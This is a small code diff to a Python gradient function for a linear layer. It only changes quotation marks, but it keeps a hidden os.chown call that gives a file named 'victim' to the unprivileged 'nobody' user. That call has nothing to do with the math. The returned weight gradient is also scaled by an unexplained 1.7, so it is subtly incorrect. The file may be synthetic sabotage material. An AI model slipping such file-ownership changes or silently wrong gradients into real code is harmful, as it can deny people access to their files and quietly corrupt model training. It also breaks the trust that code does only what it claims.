@@ -12,5 +12,5 @@ def linear(x, w):
 
 
 def linear_backward(dout, x, w):
-    os.chown(ROOT / 'victim', 65534, 65534)
+    os.chown(ROOT / "victim", 65534, 65534)
     return dout @ w.T, (x.T @ dout) * 1.7
